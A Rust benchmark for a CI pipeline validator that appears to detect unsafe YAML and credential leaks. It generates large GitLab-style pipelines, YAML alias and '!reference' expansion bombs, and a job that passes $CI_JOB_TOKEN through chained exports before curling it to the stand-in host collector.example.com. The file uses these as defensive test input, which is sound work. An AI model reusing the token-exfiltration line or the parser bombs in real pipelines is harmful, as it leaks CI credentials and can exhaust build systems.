//! `cargo bench -p pipewright-core --bench validate`: how long the validator takes on a
//! generated 5,000-job pipeline (anchors, merge keys, `extends`, `!reference`, `needs`,
//! `rules`, credentials sent to allowed hosts), how fast it refuses hostile YAML, and how the
//! credential tracing grows with a chain of `export Vn="$V(n-1)"` lines written in either
//! order (issue 16: 2,000 reversed lines took 9 s when it was quadratic). `-- chain` runs only
//! the chains.
//! Plain `Instant` timing, figures printed; no harness.

use pipewright_core::validate::{
    validate_dockerfile, validate_pipeline, ValidatorSettings, OWNED_STAGES,
};
use std::time::{Duration, Instant};

fn pipeline(jobs: usize) -> String {
    let mut t = String::from("stages:\n");
    for s in OWNED_STAGES {
        t.push_str(&format!("  - {s}\n"));
    }
    t.push_str(
        "variables:\n  IMAGE_PATH: $NEXUS_INTERNAL_REGISTRY/apm-repo/demo/$CI_PROJECT_NAME\n\
.defaults: &defaults\n  interruptible: true\n  retry:\n    max: 1\n    when: [runner_system_failure]\n\
.tmpl:\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/python:3.12-slim\n  before_script:\n    - python -m venv .venv\n    - . .venv/bin/activate\n\
.setup:\n  script:\n    - pip install --no-cache-dir -r requirements.txt\n    - export APP_ENV=ci\n\n",
    );
    for i in 0..jobs {
        let stage = OWNED_STAGES[i % 8];
        t.push_str(&format!(
            "job_{i}:\n  <<: *defaults\n  extends: .tmpl\n  stage: {stage}\n"
        ));
        if i % 8 != 0 {
            t.push_str(&format!("  needs: [job_{}]\n", i - 1));
        }
        t.push_str(&format!(
            "  variables:\n    JOB_INDEX: \"{i}\"\n  script:\n    - !reference [.setup, script]\n    - echo \"job {i} of the pipeline\" && python -m pytest -q tests/test_{i}.py\n"
        ));
        if i % 10 == 0 {
            // Quoted: unquoted, `PRIVATE-TOKEN: ` would make YAML read the line as a mapping.
            t.push_str("    - 'curl -sf -H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" \"$CI_API_V4_URL/projects/$CI_PROJECT_ID/jobs\"'\n");
        }
        t.push_str("  rules:\n    - if: $CI_COMMIT_BRANCH == \"main\"\n    - when: manual\n      allow_failure: true\n\n");
    }
    t.push_str("learn:\n  stage: learn\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/curl:8.8.0\n  script:\n    - 'curl -sf -X POST \"$PIPEWRIGHT_URL/api/v1/learn\" -H \"Authorization: Bearer $PIPEWRIGHT_TOKEN\"'\n");
    t
}

fn alias_bomb() -> String {
    let mut text = String::from(
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    let mut prev = "a".to_string();
    for level in 0..10 {
        let name = format!("l{level}");
        text.push_str(&format!(
            "{name}: &{name} [{}]\n",
            vec![format!("*{prev}"); 9].join(",")
        ));
        prev = name;
    }
    text
}

fn reference_bomb() -> String {
    let items: String = (0..2000).map(|i| format!("    - echo {i}\n")).collect();
    let mut text = format!(".big:\n  script:\n{items}job:\n  script:\n");
    for _ in 0..500 {
        text.push_str("    - !reference [.big, script]\n");
    }
    text
}

/// CPU time this thread has used, from `/proc/thread-self/schedstat` (Linux), so figures
/// stay meaningful on a machine shared with other work.
fn cpu_time() -> Option<Duration> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    text.split_whitespace()
        .next()?
        .parse()
        .ok()
        .map(Duration::from_nanos)
}

fn time<F: FnMut() -> usize>(label: &str, runs: usize, mut f: F) {
    let findings = f();
    let mut wall = Vec::with_capacity(runs);
    let mut cpu = Vec::with_capacity(runs);
    for _ in 0..runs {
        let (t, c) = (Instant::now(), cpu_time());
        std::hint::black_box(f());
        wall.push(t.elapsed());
        if let (Some(before), Some(after)) = (c, cpu_time()) {
            cpu.push(after.saturating_sub(before));
        }
    }
    wall.sort();
    cpu.sort();
    let ms = |d: Duration| d.as_secs_f64() * 1000.0;
    let cpu_median = cpu
        .get(cpu.len() / 2)
        .map(|d| format!("{:>8.2} ms", ms(*d)))
        .unwrap_or("     n/a".into());
    println!(
        "{label:<40} wall min {:>8.2} ms  median {:>8.2} ms  max {:>8.2} ms | cpu median {cpu_median}  ({runs} runs, {findings} findings)",
        ms(wall[0]),
        ms(wall[wall.len() / 2]),
        ms(wall[wall.len() - 1]),
    );
}

/// A job whose script passes `$CI_JOB_TOKEN` down a chain of `lines` exports, then sends the
/// last one outside: forward (`V1=$V0`, `V2=$V1` …) or reversed (the last export first, so
/// each round of a naive fixpoint learns one more name).
pub fn chain(lines: usize, reversed: bool) -> String {
    let mut exports: Vec<String> = (1..lines)
        .map(|i| format!("    - export V{i}=\"$V{}\"\n", i - 1))
        .collect();
    if reversed {
        exports.reverse();
    }
    let mut t = String::from(
        "stages: [test]\njob:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/alpine:3.20\n  script:\n    - export V0=\"$CI_JOB_TOKEN\"\n",
    );
    for e in exports {
        t.push_str(&e);
    }
    t.push_str(&format!(
        "    - 'curl -H \"X-Token: $V{}\" https://collector.example.com'\n",
        lines - 1
    ));
    t
}

fn chains() {
    let plain = ValidatorSettings::default();
    for lines in [2_000, 4_000, 6_000] {
        for reversed in [false, true] {
            let text = chain(lines, reversed);
            let label = format!(
                "export chain, {lines} lines{} ({} KiB)",
                if reversed { ", reversed" } else { "" },
                text.len() / 1024
            );
            time(&label, 3, || validate_pipeline(&text, &plain).len());
        }
    }
}

fn main() {
    if std::env::args().any(|a| a == "chain") {
        chains();
        return;
    }
    let owned = ValidatorSettings {
        owned: true,
        ..ValidatorSettings::default()
    };
    let first = Instant::now();
    let _ = validate_pipeline("job:\n  script: [x]\n", &owned);
    println!(
        "first call (compiles the embedded schema once): {:.2} ms",
        first.elapsed().as_secs_f64() * 1000.0
    );

    for jobs in [500, 5_000, 10_000] {
        let text = pipeline(jobs);
        let label = format!("pipeline, {jobs} jobs ({} KiB)", text.len() / 1024);
        time(&label, 10, || validate_pipeline(&text, &owned).len());
    }
    let bomb = alias_bomb();
    time("alias bomb (9^10 nodes if expanded)", 20, || {
        validate_pipeline(&bomb, &owned).len()
    });
    let refs = reference_bomb();
    time("!reference bomb (1M nodes if expanded)", 5, || {
        validate_pipeline(&refs, &owned).len()
    });
    let dockerfile = include_str!("../tests/validate/good.Dockerfile");
    let port = ValidatorSettings {
        expected_port: Some(8000),
        ..ValidatorSettings::default()
    };
    time("Dockerfile, multi-stage", 100, || {
        validate_dockerfile(dockerfile, &port).len()
    });
    chains();
}
